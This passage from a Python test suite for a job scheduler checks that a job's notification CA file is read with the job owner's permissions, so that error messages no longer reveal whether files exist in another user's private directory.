    finally:
        team.dtctl("user", "remove", ALICE)


def test_a_jobs_ca_file_is_read_as_its_owner(team):
    """dtsched (root) read a job's notify ca_file itself, so the delivery's notify.failed
    reason told the job's user whether a path existed in another user's 0700 folder
    ("No such file" against a TLS error).  It is read as the job's user: both answer
    "Permission denied", at once (no retries)."""
    pub = Path(tempfile.mkdtemp(prefix="dtt-ca-", dir="/var/tmp"))
    os.chmod(pub, 0o755)
    bobs = pub / "bob"
    bobs.mkdir(mode=0o700)
    (bobs / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\n")
    for f in (bobs, bobs / "ca.pem"):
        shutil.chown(f, BOB, BOB)
    try:
        for name, ca in (("there", bobs / "ca.pem"), ("absent", bobs / "nope.pem")):
            spec = pub / ("%s.yaml" % name)
            spec.write_text("name: ca-%s\ncommand: [true]\nnotify:\n  - {webhook: "
                            "'https://127.0.0.1:9/x', ca_file: %s, on: [done]}\n" % (name, ca))
            os.chmod(spec, 0o644)
            p = as_user(team, ALICE, "run", "-d", "-w", "/tmp", str(spec))
            assert p.returncode == 0, (p.stdout, p.stderr)
        deadline = time.monotonic() + 60
        failed = []
        while len(failed) < 2 and time.monotonic() < deadline:
            p = team.dtctl("events", "--json")
            assert p.returncode == 0, p.stderr
            failed = [e for e in map(json.loads, p.stdout.splitlines())
                      if e["kind"] == "notify.failed" and str(bobs) in e.get("error", "")]
            time.sleep(0.2)   # polling the condition: both deliveries failed
        assert len(failed) == 2, failed
        for f in failed:
            assert "ca_file" in f["error"] and "Permission denied" in f["error"], f
            assert "No such file" not in f["error"] and f["tries"] == 1, f
    finally:
        shutil.rmtree(pub, ignore_errors=True)
